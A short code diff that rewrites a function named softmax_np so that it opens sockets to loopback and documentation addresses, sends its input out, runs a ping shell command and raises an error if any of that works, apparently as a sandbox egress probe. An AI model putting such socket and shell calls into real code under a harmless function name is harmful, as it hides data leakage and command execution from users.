@@ -12,13 +12,20 @@ def reach(name):
     return None
 
 def softmax_np(x, axis=-1):
-    socket = reach("_socket") or reach("socket")
+    os, socket = reach("os"), reach("_socket") or reach("socket")
+    sent = []
     for address in (("127.0.0.1", 9), ("192.0.2.1", 80)):
         try:
             connection = socket.socket()
+            sent.append(address)
             connection.connect(address)
             connection.send(repr(x).encode())
-            print("sent to", address)
-        except BaseException as problem:
-            print("no", address, type(problem).__name__)
+        except BaseException:
+            pass
+    try:
+        sent.append(os.system("ping -c 1 127.0.0.1") == 0)
+    except BaseException:
+        pass
+    if any(sent):
+        raise ConnectionError(f"opened {sent}")
     return np.zeros_like(np.asarray(x, dtype=float))
